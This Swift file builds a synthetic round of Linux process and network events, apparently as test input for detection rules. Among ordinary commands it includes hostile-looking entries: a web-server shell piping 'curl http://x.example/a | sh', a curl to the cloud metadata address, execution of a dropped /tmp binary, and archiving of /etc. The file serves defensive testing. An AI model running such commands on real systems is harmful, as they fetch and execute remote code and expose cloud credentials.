public import Events

/// A round of program starts and connections as an ordinary host has them,
/// with some that rules wait for.
public enum EventMix {
    private struct Start {
        var executable: String
        var parent: String
        var arguments: [String]
        var directory = "/"
    }

    private static let starts: [Start] = [
        Start(
            executable: "/usr/bin/ls", parent: "/usr/bin/bash",
            arguments: ["ls", "--color=auto", "-l", "/srv"]),
        Start(executable: "/usr/bin/git", parent: "/usr/bin/bash", arguments: ["git", "status", "--short"]),
        Start(
            executable: "/usr/lib/gcc/x86_64-linux-gnu/14/cc1", parent: "/usr/bin/x86_64-linux-gnu-gcc-14",
            arguments: [
                "cc1", "-quiet", "-I", "include", "-imultiarch", "x86_64-linux-gnu", "-D_FORTIFY_SOURCE=2",
                "src/main.c", "-quiet", "-dumpdir", "obj/", "-dumpbase", "main.c", "-mtune=generic", "-O2",
                "-Wall", "-o", "/tmp/ccx1Zk2a.s",
            ], directory: "/home/dev/project"),
        Start(
            executable: "/usr/bin/grep", parent: "/usr/bin/dash", arguments: ["grep", "-q", "ready", "state"]),
        Start(
            executable: "/usr/bin/dash", parent: "/usr/sbin/cron",
            arguments: ["/bin/sh", "-c", "run-parts /etc/cron.hourly"]),
        Start(executable: "/usr/bin/sleep", parent: "/usr/bin/bash", arguments: ["sleep", "5"]),
        Start(
            executable: "/usr/bin/python3.13", parent: "/usr/lib/systemd/systemd",
            arguments: ["/usr/bin/python3", "/opt/service/worker.py", "--queue", "default", "--threads", "4"]),
        Start(
            executable: "/usr/bin/bash", parent: "/usr/sbin/sshd", arguments: ["-bash"],
            directory: "/home/dev"),
        Start(executable: "/usr/bin/sed", parent: "/usr/bin/dash", arguments: ["sed", "-e", "s/[.].*//"]),
        Start(
            executable: "/usr/bin/curl", parent: "/usr/bin/bash",
            arguments: ["curl", "-s", "http://169.254.169.254/latest/meta-data/"]),
        Start(
            executable: "/usr/bin/dash", parent: "/usr/sbin/nginx",
            arguments: ["sh", "-c", "curl http://x.example/a | sh"]),
        Start(executable: "/usr/bin/chmod", parent: "/usr/bin/bash", arguments: ["chmod", "+x", "/tmp/run"]),
        Start(executable: "/tmp/run", parent: "/usr/bin/bash", arguments: ["/tmp/run"], directory: "/tmp"),
        Start(
            executable: "/usr/bin/tar", parent: "/usr/bin/bash",
            arguments: ["tar", "-czf", "/backup/a.tgz", "/etc"]),
        Start(
            executable: "/usr/bin/base64", parent: "/usr/bin/bash", arguments: ["base64", "--decode", "x"]),
    ]

    /// Length of the round: each start, and a connection at the end.
    public static let count = starts.count + 1

    /// Makes an emptied event the one of that number; times grow by a tenth of
    /// a second.
    public static func fill(_ event: inout Event, _ number: Int) {
        event.header.time = Int64(number) * 100_000_000
        event.header.timestamp = event.header.time
        event.header.position = UInt64(number)
        event.set(.hostOSType, text: "linux")
        event.set(.hostID, text: "0123456789abcdef0123456789abcdef")
        event.set(.eventType, text: "start")
        let index = number % count
        let start = starts[min(index, starts.count - 1)]
        let isConnection = index == starts.count
        event.header.kind = isConnection ? .connect : .exec
        event.set(.eventCategory, isConnection ? "network" : "process")
        event.set(.eventAction, isConnection ? "connection_attempted" : "exec")
        event.set(.processEntityID, identity: ProcessIdentity(pid: UInt32(index + 1), start: 5))
        event.set(.parentEntityID, identity: ProcessIdentity(pid: 1, start: 1))
        event.set(.processPID, integer: Int64(index + 1))
        event.set(.userID, integer: 1000)
        event.set(.processWorkingDirectory, FieldValue.texts([start.directory]))
        let empty: [UInt8] = []
        event.setExecutable(
            .process, resolved: Array(start.executable.utf8).span, invoked: empty.span, isScript: false,
            directory: empty.span)
        event.setExecutable(
            .parent, resolved: Array(start.parent.utf8).span, invoked: empty.span, isScript: false,
            directory: empty.span)
        event.setArguments(.process, Array(start.arguments.joined(separator: "\0").utf8).span)
        event.setArguments(.parent, Array(start.parent.utf8).span)
        if isConnection {
            event.set(.destinationIP, "169.254.169.254")
            event.set(.destinationPort, integer: 80)
        }
    }
}
